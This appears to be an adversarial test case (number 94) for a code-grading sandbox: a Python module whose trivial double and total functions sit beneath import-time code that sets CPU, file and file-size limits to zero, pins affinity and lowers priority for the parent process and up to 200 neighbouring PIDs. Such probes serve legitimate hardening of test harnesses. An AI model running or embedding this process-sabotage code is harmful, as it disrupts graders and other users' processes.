"""94. Lowers the limits, priority and affinity of every process it can name (prlimit, setpriority, …).

expect: double passed, total passed
"""

import os
import resource

me = os.getpid()
for pid in {os.getppid(), *range(max(2, me - 200), me)}:
    for attempt in (
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
    ):
        try:
            attempt()
        except (OSError, ValueError):
            pass


def double(x):
    return 2 * x


def total(x):
    return x.sum()
